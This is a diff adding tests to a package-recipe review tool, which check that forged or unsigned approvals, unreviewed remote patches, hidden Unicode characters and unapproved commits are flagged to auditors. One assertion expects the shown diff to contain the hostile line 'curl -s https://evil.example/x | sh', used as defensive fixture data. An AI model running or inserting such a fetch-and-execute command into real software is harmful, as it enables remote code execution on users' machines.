@@ -254,8 +254,154 @@ describe('pakages review next', () => {
     place.write(GREET_RECIPE, recipe([three, TWO, ONE, `    version("main", branch="main")`]))
     expect(waitingIn(await review('next'))).toEqual(['libgreet@1.1', 'libgreet@1.2'])
     expect(waitingIn(await review('next libgreet'))).toEqual(['libgreet@1.1', 'libgreet@1.2'])
-    expect(waitingIn(await review('next other'))).toEqual([])
     await expect(review('next a b')).rejects.toThrow('cannot be understood')
+  })
+
+  test.each([
+    ['next other', 'recipe-not-found'],
+    ['next other@1.0', 'recipe-not-found'],
+    ['next libgreet@9.9', 'version-not-found'],
+  ])('does not say that nothing waits of what there is not: %s', async (words, id) => {
+    await withNewVersion()
+    await expect(review(words)).rejects.toMatchObject({ id })
+    await review('approve libgreet@1.1 all')
+    expect(waitingIn(await review('next libgreet'))).toEqual([])
+    expect(waitingIn(await review('next libgreet@1.0'))).toEqual([])
+  })
+
+  test('compares with nothing that no auditor approved, whoever wrote it into reviews/', async () => {
+    await withNewVersion()
+    const approval = JSON.parse(
+      readFileSync(join(place.folder, 'reviews/libgreet/1.0/alice.json'), 'utf8'),
+    ) as { recipe: object }
+    const { signature: _signature, ...unsigned } = { signature: '', ...approval }
+    place.write(
+      'reviews/libgreet/1.1/eve.json',
+      JSON.stringify({
+        ...unsigned,
+        version: '1.1',
+        auditor: 'eve',
+        recipe: { ...approval.recipe, commit: place.git('rev-parse', 'HEAD') },
+      }),
+    )
+    const { summary } = presentReview(await review('next'))
+    expect(summary).toContain('libgreet@1.1, compared with 1.0')
+    expect(summary).toContain('+    version("1.1"')
+  })
+
+  test('does not take for approved what the commit of a review holds beside what was approved', async () => {
+    place.write(GREET_RECIPE, recipe([ONE, '    # only looked at here']))
+    await review('approve libgreet@1.0 all', { auditor: 'alice' })
+    expect(host.messages('warning').join()).toContain('has changes that no commit has')
+    const file = join(place.folder, 'reviews/libgreet/1.0/alice.json')
+    const written = JSON.parse(readFileSync(file, 'utf8')) as { recipe: { commit?: string } }
+    expect(written.recipe.commit).toBeUndefined()
+    place.write(GREET_RECIPE, recipe([TWO, ONE]))
+    const { summary } = presentReview(await review('next libgreet@1.1'))
+    expect(summary).toContain(
+      '1.0 was approved before, and cannot be compared with: the review names no commit',
+    )
+    // The archive is compared all the same.
+    expect(summary).toContain('+curl -s https://evil.example/x | sh')
+  })
+
+  test('says that a commit is not what was approved, where its recipe has another digest', async () => {
+    await withNewVersion()
+    const file = join(place.folder, 'reviews/libgreet/1.0/alice.json')
+    const approval = JSON.parse(readFileSync(file, 'utf8')) as { recipe: object }
+    const recipeOfNow = { ...approval.recipe, commit: place.git('rev-parse', 'HEAD') }
+    place.write(
+      'pakages.json',
+      readFileSync(join(place.folder, 'pakages.json'), 'utf8').replace(
+        '"trust":{',
+        '"trust":{"unsigned-reviews":true,',
+      ),
+    )
+    writeFileSync(file, JSON.stringify({ ...approval, recipe: recipeOfNow, signature: undefined }))
+    const { summary } = presentReview(await review('next libgreet@1.1'))
+    expect(summary).toContain('is not the recipe that was approved')
+    expect(summary).not.toContain('Nothing changed')
+  })
+
+  test('names what else a build fetches, which nobody looked at, and its hosts', async () => {
+    await withNewVersion()
+    place.write(
+      GREET_RECIPE,
+      recipe([
+        TWO,
+        ONE,
+        `    resource(name="data", url="https://data.example/d.tgz", sha256="${'3'.repeat(64)}", when="@1.1")`,
+        `    patch("https://patches.example/p.patch", sha256="${'4'.repeat(64)}")`,
+        '    patch("own.patch")',
+      ]),
+    )
+    const { summary } = presentReview(await review('next libgreet@1.1'))
+    expect(summary).toContain(
+      'Hosts of sources:\n- added `data.example`\n- added `patches.example`',
+    )
+    const unseen = summary.split('Fetched for a build too, and not looked at here:\n')[1]!
+    expect(unseen.split('\n').slice(0, 2)).toEqual([
+      `- \`https://patches.example/p.patch sha256 ${'4'.repeat(64)}\``,
+      `- \`https://data.example/d.tgz when @1.1 sha256 ${'3'.repeat(64)}\``,
+    ])
+    expect(unseen).not.toContain('own.patch')
+  })
+
+  test('shows characters of a recipe that cannot be seen by their number', async () => {
+    await withNewVersion()
+    place.write(GREET_RECIPE, recipe([TWO, ONE, '    # \u202ehidden\u200b']))
+    const { summary } = presentReview(await review('', { diff: 'libgreet@1.1' }))
+    expect(summary).toContain('+    # <U+202E>hidden<U+200B>')
+  })
+
+  test('ends its lines with who speaks, where that is not kept', async () => {
+    place.write(GREET_RECIPE, recipe([ONE]))
+    const shown = async (given: Readonly<Record<string, string>>): Promise<string> =>
+      presentReview(await review('next libgreet@1.0', given))
+        .summary.split('-- WHY"')[1]!
+        .split('\n')[0]!
+    expect(await shown({})).toBe(' --auditor LOGIN')
+    expect(await shown({ auditor: 'alice' })).toBe(' --auditor alice')
+    await review('request libgreet@1.0', { auditor: 'alice' })
+    expect(await shown({ auditor: 'alice' })).toBe('')
+  })
+
+  test('warns before the reading of what would make it worth nothing, and says what stands', async () => {
+    await withNewVersion()
+    await review('next', { 'signing-key': '' }, ['quit'])
+    expect(host.messages('warning')).toEqual([expect.stringContaining('Nobody signs this review')])
+    await review('next', { auditor: 'eve' }, ['quit'])
+    expect(host.messages('warning')).toEqual([expect.stringContaining('eve is not an auditor')])
+    const result = await review('next', {}, ['', 'y', 'diff', 'approve all -- read', 'quit'])
+    expect(host.messages('warning')).toEqual([
+      expect.stringMatching(/^"y" is not a command\. Write approve, reject/),
+    ])
+    expect(host.summaryText.match(/`skip`: the next one/g)).toHaveLength(2)
+    expect(host.messages('info').join('\n')).toContain(
+      'Recorded in reviews/libgreet/1.1/alice.json: libgreet@1.1 is approved now.',
+    )
+    expect(presentReview(result).summary).toContain('is now **approved**')
+  })
+
+  test('says that nothing was recorded where nothing was', async () => {
+    await withNewVersion()
+    expect(presentReview(await review('next', {}, ['quit'])).summary).toContain(
+      'Nothing was recorded.',
+    )
+  })
+
+  test('does not let an approval that nobody signs take the place of a word that counts', async () => {
+    await withNewVersion()
+    const file = join(place.folder, 'reviews/libgreet/1.0/alice.json')
+    const before = readFileSync(file, 'utf8')
+    const { failure } = presentReview(
+      await review('approve libgreet@1.0 all -- again', { 'signing-key': '' }),
+    )
+    expect(failure?.message).toContain('alice has signed another word on it, which stands')
+    expect(readFileSync(file, 'utf8')).toBe(before)
+    // A warning counts without a signature.
+    await review('reject libgreet@1.0 -- no', { 'signing-key': '' })
+    expect(readFileSync(file, 'utf8')).toContain('"rejected"')
   })
 
   test('says what to write where more stands behind it', async () => {
